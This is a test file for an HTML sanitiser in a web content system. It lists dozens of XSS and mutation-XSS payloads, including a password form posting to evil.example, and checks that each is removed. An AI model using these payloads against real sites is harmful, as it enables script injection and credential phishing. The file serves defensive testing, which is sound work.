import type { Nodes } from 'hast'
import { fromHtml } from 'hast-util-from-html'
import { expect, test } from 'vitest'
import { isSafeHtml } from '../../shared/validation/operator-html'
import fc from '../../tests/fast-check'
import { sanitiseHtml } from './sanitise-html'

/**
 * Attacks from OWASP's cheat sheet, html5sec and articles about mutation XSS, as a content management system
 * would deliver them.
 */
const payloads = [
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<IMG SRC=javascript:alert(1)>',
  '<img src="java\tscript:alert(1)">',
  '<img src="&#106;avascript:alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="https://own.example@evil.example/">x</a>',
  '<a href="http://plain.example/">x</a>',
  '<a href="filesystem:https://x/y">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:99999">overlay</div>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img id="getElementById" name="cookie" src="https://x.example/1.png">',
  '<a id="hydration" href="/m/home">x</a>',
  '<p class="dialog" data-theme="light" aria-hidden="true" tabindex="0" contenteditable>x</p>',
  '<x-element is="script" onclick=alert(1)>x</x-element>',
  '<img src="https://x.example/1.png" srcset="javascript:alert(1) 2x" usemap="#m">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="https://ok.example" ping="https://evil.example" download onclick=alert(1)>x</a>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1);//<</script>',
  '<div><plaintext><img src=x onerror=alert(1)>',
]

const allowedTags =
  /^(h[2-6]|p|br|hr|div|span|blockquote|pre|code|b|strong|i|em|u|s|del|ins|small|sub|sup|mark|bdi|ul|ol|li|dl|dt|dd|a|img|figure|figcaption|table|caption|thead|tbody|tfoot|tr|th|td)$/
const allowedAttributes =
  /^(href|rel|target|src|alt|width|height|loading|decoding|start|colSpan|rowSpan|scope|dir|dataPage)$/

/** Returns the elements and attributes of a parsed document that are not allowed. */
function faults(node: Nodes): string[] {
  const below = 'children' in node ? node.children.flatMap(faults) : []
  if (node.type === 'comment' || node.type === 'doctype') return [node.type, ...below]
  if (node.type !== 'element') return below
  const own = Object.entries(node.properties).flatMap(([name, value]) => {
    const isUrl = name === 'href' || name === 'src'
    const isSafe = !isUrl || /^(https:\/\/[^@/]+(\/|$)|\/(?![/\\]))/.test(String(value))
    return allowedAttributes.test(name) && isSafe ? [] : [`${node.tagName}[${name}=${String(value)}]`]
  })
  return [...(allowedTags.test(node.tagName) ? [] : [node.tagName]), ...own, ...below]
}

test('has at least fifty different payloads', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(50)
})

test.each(payloads)('removes %j', (payload) => {
  const clean = sanitiseHtml(payload)
  // The result is parsed as a fragment and as a document, because mutation attacks use the difference between
  // the two.
  expect(faults(fromHtml(clean, { fragment: true }))).toEqual([])
  expect(sanitiseHtml(clean)).toBe(clean)
  // The check in the client also accepts the sanitised HTML.
  expect(isSafeHtml(clean)).toBe(true)
})

test.each(payloads)('removes %j inside a paragraph, a table and an attribute', (payload) => {
  for (const around of [`<p>a ${payload} b</p>`, `<table><td>${payload}</table>`, `<img alt="${payload}">`]) {
    expect(faults(fromHtml(sanitiseHtml(around), { fragment: true }))).toEqual([])
  }
})

test('removes any mixture of fragments of the payloads', () => {
  const pieces = fc.constantFrom(...payloads.flatMap((payload) => payload.split(/(?=[<>"=\s])/)))
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const clean = sanitiseHtml(parts.join(''))
      expect(faults(fromHtml(clean, { fragment: true }))).toEqual([])
      expect(isSafeHtml(clean)).toBe(true)
    }),
    { numRuns: 500 },
  )
})

test('keeps the text of removed elements, but not of code', () => {
  expect(sanitiseHtml('<form>Win <blink>big</blink></form>')).toBe('Win big')
  expect(sanitiseHtml('a<script>alert(1)</script><style>p{}</style>b')).toBe('ab')
})

test('removes overrides of the text direction, and keeps isolates', () => {
  expect(sanitiseHtml('<p>\u202Egpj.exe\u202C &#x202e;x&#8237; <bdo dir="rtl">moc</bdo></p>')).toBe(
    '<p>gpj.exe x moc</p>',
  )
  expect(sanitiseHtml('<img src="https://x.example/a.png" alt="&#x202e;gpj">')).toContain('alt="gpj"')
  expect(sanitiseHtml('<p>\u2067اردو\u2069</p>')).toBe('<p>\u2067اردو\u2069</p>')
})

test('keeps valid content', () => {
  const html =
    '<div lang="en" dir="ltr"><p>English</p></div>' +
    '<h3>শর্ত</h3><p dir="rtl">اردو <strong>x</strong><br>y</p><ul><li>1</li></ul>' +
    '<table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>'
  expect(sanitiseHtml(html)).toBe(html)
})

test('removes an invalid language', () => {
  expect(sanitiseHtml('<p lang="x y">a</p>')).toBe('<p>a</p>')
})

test('marks links to other sites and links to our pages', () => {
  expect(sanitiseHtml('<a href="https://x.example/a?b=1&c=2">x</a>')).toBe(
    '<a href="https://x.example/a?b=1&#x26;c=2" rel="noopener nofollow" target="_blank">x</a>',
  )
  expect(sanitiseHtml('<a href="/m/activity?id=1">x</a>')).toBe(
    '<a href="/m/activity?id=1" data-page="">x</a>',
  )
  // A link to a URL of our origin that is not a page gets no mark.
  expect(sanitiseHtml('<a href="/m/api/health">x</a>')).toBe('<a href="/m/api/health">x</a>')
  expect(sanitiseHtml('<a href="/terms.pdf" data-page>x</a>')).toBe('<a href="/terms.pdf">x</a>')
})

test('makes images lazy with an alternative text, and removes those with a forbidden URL', () => {
  expect(sanitiseHtml('<img src="/__sandbox/cdn/a.png" width="20" height="1e9">')).toBe(
    '<img src="/__sandbox/cdn/a.png" alt="" loading="lazy" decoding="async" width="20">',
  )
  expect(sanitiseHtml('<img src="http://x.example/a.png">')).toBe('')
})

test('turns first-level headings into second-level ones', () => {
  expect(sanitiseHtml('<h1>x</h1>')).toBe('<h2>x</h2>')
})

test('limits the depth and size of the HTML', () => {
  expect(faults(fromHtml(sanitiseHtml('<b>'.repeat(300) + payloads.join('')), { fragment: true }))).toEqual(
    [],
  )
  expect(sanitiseHtml('<div>'.repeat(200_000)).length).toBeLessThanOrEqual(300_000)
  expect(sanitiseHtml('x'.repeat(200_000)).length).toBe(100_000)
})

test('limits the growth of HTML with unclosed formatting elements', () => {
  const clean = sanitiseHtml('<b><p>'.repeat(16_000))
  expect(clean.length).toBeLessThan(60_000)
})

test('drops the text of elements that are nested too deeply, and preserves everything else', () => {
  const deep = `<p>before</p>${'<div>'.repeat(150)}deep${'</div>'.repeat(150)}<p>after</p>`
  const clean = sanitiseHtml(deep)
  expect(clean).toContain('<p>before</p>')
  expect(clean).toContain('<p>after</p>')
  expect(clean).not.toContain('deep')
})

test.each([
  ['ampersands', '&'.repeat(99_999)],
  ['signs of tags', '&lt;'.repeat(25_000)],
  ['paragraphs of ampersands', '<p>&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&&</p>'.repeat(1000)],
  ['unclosed formatting', '<p><b>'.repeat(3000)],
])('content of 100,000 characters grows to at most three times its length: %s', (_name, html) => {
  expect(sanitiseHtml(html).length).toBeLessThan(300_000)
})

test('preserves a long text that is written in character references', () => {
  expect(sanitiseHtml(`<p>${'&#2453;'.repeat(14_000)}</p>`)).toBe(`<p>${'ক'.repeat(14_000)}</p>`)
})
